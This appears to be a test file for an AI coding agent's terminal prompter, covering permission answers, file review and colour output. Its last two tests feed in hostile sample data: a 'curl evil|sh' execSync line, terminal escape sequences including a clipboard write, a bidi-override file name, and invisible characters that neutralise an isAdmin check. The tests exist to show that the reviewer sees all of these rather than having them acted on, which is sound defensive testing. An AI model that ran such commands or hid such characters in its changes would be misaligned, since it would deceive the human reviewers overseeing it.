/** The terminal's answers to permission and review questions (DESIGN.md §7), fed through stdin as a script would. */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { PassThrough } from 'node:stream';
import { TerminalPrompter } from '../../src/cli/terminal-prompter.js';
import { LineReader } from '../../src/cli/lines.js';
import { styleFor } from '../../src/cli/style.js';
import type { PreparedFile } from '../../src/core/changeset/index.js';

function prompter(input: string) {
  const stdin = new PassThrough();
  const stdout = new PassThrough();
  let out = '';
  stdout.on('data', (d: Buffer) => (out += d.toString()));
  stdin.end(input);
  const io = { stdin, stdout, stderr: new PassThrough(), env: {}, cwd: '/' };
  const p = new TerminalPrompter(io, new LineReader(stdin, stdout), styleFor(io));
  return { p, output: () => out };
}

const question = { binding: 'b1', session: 's', callId: 'c', tool: 'workspace_read', summary: 'read .env', reason: 'secret-looking file', args: { path: '.env' } };

const file: PreparedFile = {
  path: 'a.txt',
  operation: 'update',
  status: 'ready',
  before: 'a\n',
  after: 'b\n',
  baseSha256: 'x',
  displayDiff: '--- a/a.txt\n+++ b/a.txt\n@@ -1 +1 @@\n-a\n+b\n',
  stats: { added: 1, removed: 1 },
};
const review = { binding: 'r1', session: 's', callId: 'c', summary: 'change a', file, index: 1, total: 1 };

test('permission answers: yes/allow allow, no/deny deny, each bound to the question', async () => {
  for (const [line, allow] of [['y', true], ['YES', true], ['allow', true], ['n', false], ['no', false], ['Deny', false]] as const) {
    const { p } = prompter(`${line}\n`);
    assert.deepEqual(await p.askPermission(question), { binding: 'b1', allow }, line);
  }
});

test('three unclear permission answers deny; the prompt says why and how many are left', async () => {
  const { p, output } = prompter('maybe\nsure?\nok\ny\n');
  assert.deepEqual(await p.askPermission(question), { binding: 'b1', allow: false });
  assert.match(output(), /Please answer y, n, t or w \(2 more\)/);
  assert.match(output(), /No clear answer: denied/);
});

test('end of input denies a permission and rejects a file', async () => {
  assert.equal((await prompter('').p.askPermission(question)).allow, false);
  assert.equal((await prompter('').p.reviewFile(review)).verdict, 'reject');
});

test('file review: approve, reject, and reject with a comment; the diff is shown', async () => {
  const a = prompter('a\n');
  assert.deepEqual(await a.p.reviewFile(review), { binding: 'r1', verdict: 'approve' });
  assert.match(a.output(), /\[1\/1\] update a\.txt/);
  assert.match(a.output(), /^\+b$/m);
  assert.deepEqual(await prompter('reject\n').p.reviewFile(review), { binding: 'r1', verdict: 'reject' });
  assert.deepEqual(await prompter('c  use the other helper  \n').p.reviewFile(review), {
    binding: 'r1',
    verdict: 'reject',
    comment: 'use the other helper',
  });
});

test('colours only when asked for', async () => {
  const plain = styleFor({ stdout: Object.assign(new PassThrough(), { isTTY: false }), env: {} });
  assert.equal(plain.green('x'), 'x');
  const forced = styleFor({ stdout: new PassThrough(), env: { FORCE_COLOR: '1' } });
  assert.equal(forced.green('x'), '\u001b[32mx\u001b[39m');
  const tty = styleFor({ stdout: Object.assign(new PassThrough(), { isTTY: true }), env: { NO_COLOR: '1' } });
  assert.equal(tty.red('x'), 'x');
});

test('agent-made text cannot rewrite the screen: control sequences and bidi overrides are shown, not obeyed', async () => {
  const sneaky: PreparedFile = {
    ...file,
    path: 'a\u202Etxt.js',
    rationale: 'harmless\u001b]52;c;ZXZpbA==\u0007',
    displayDiff: "--- a/a.txt\n+++ b/a.txt\n@@ -1 +1 @@\n-a\n+require('child_process').execSync('curl evil|sh');\u001b[2K\r+console.log(2);\n",
  };
  const { p, output } = prompter('r\n');
  await p.reviewFile({ ...review, file: sneaky, summary: 'tidy\u001b[1A' });
  const shown = output();
  assert.doesNotMatch(shown, /[\u001b\u0007\u202e]/);
  assert.match(shown, /execSync\('curl evil\|sh'\);<U\+001B>\[2K<U\+000D>\+console\.log\(2\);/);
  assert.match(shown, /a<U\+202E>txt\.js/);
  assert.match(shown, /harmless<U\+001B>\]52;c;ZXZpbA==<U\+0007>/);
});

test('file review: summary and rationale are quoted; invisible characters in the diff and path are shown', async () => {
  const sneaky: PreparedFile = {
    ...file,
    path: 'src/auth\u200b.ts',
    rationale: 'Tidy up.\n+ZQ looks like an added line',
    // A check that reads as present but is neutralised by invisible characters: a tag-character comment and a
    // zero-width space inside the identifier.
    displayDiff: '--- a/a.txt\n+++ b/a.txt\n@@ -1 +1 @@\n-a\n+if (isAdmin\u200b(user)) allow();\u{E0069}\u{E0067}\n',
  };
  const { p, output } = prompter('r\n');
  await p.reviewFile({ ...review, summary: 'Safe refactor\n? The agent wants to ZQ', file: sneaky });
  const shown = output();
  for (const line of shown.split('\n').filter((l) => l.includes('ZQ'))) assert.ok(line.startsWith('│ '), line);
  assert.match(shown, /agent says \(summary\):\n│ Safe refactor\n│ \? The agent wants to ZQ/);
  assert.match(shown, /agent says \(why\):\n│ Tidy up\.\n│ \+ZQ looks like an added line/);
  assert.match(shown, /\[1\/1\] update src\/auth<U\+200B>\.ts/);
  assert.match(shown, /^\+if \(isAdmin<U\+200B>\(user\)\) allow\(\);<U\+E0069><U\+E0067>$/m);
  assert.doesNotMatch(shown, /[\u200b\u{E0000}-\u{E007F}]/u);
});
